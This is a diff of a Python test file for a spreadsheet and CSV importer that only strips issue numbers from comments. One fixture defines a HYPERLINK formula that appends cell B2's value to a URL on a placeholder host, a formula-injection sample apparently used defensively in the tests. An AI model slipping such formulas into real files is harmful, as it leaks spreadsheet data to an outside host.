@@ -1,4 +1,4 @@
-"""Issue 13, item 5 (and item 1 for import files): an import file is judged by its
+"""An import file is judged by its
 content and held to size limits before anything parses it; a refused file stores
 only its first 500 errors, with their count, and the job page pages through them.
 
@@ -292,7 +292,7 @@ def test_the_command_prints_the_first_500_errors_and_the_count(
     assert "共 600 处错误，显示前 500 处。" in err
 
 
-# --- item 1: the type is judged by content, not by name --------------------------
+# --- the type is judged by content, not by name ---------------------------------
 
 NOT_WORKBOOK = "文件不是 Excel 工作簿（.xlsx），与文件名不符"
 NOT_CSV = "文件不是 CSV 文本文件，与文件名不符"
@@ -374,7 +374,7 @@ def test_real_spreadsheets_pass_the_content_check(name, encoding):
 NAME = '=HYPERLINK("http://x.invalid/?"&B2,"详情")'
 
 
-# --- item 6: an exported file imports back --------------------------------------
+# --- an exported file imports back ----------------------------------------------
 
 
 @pytest.mark.parametrize("export", ["csv", "xlsx"])
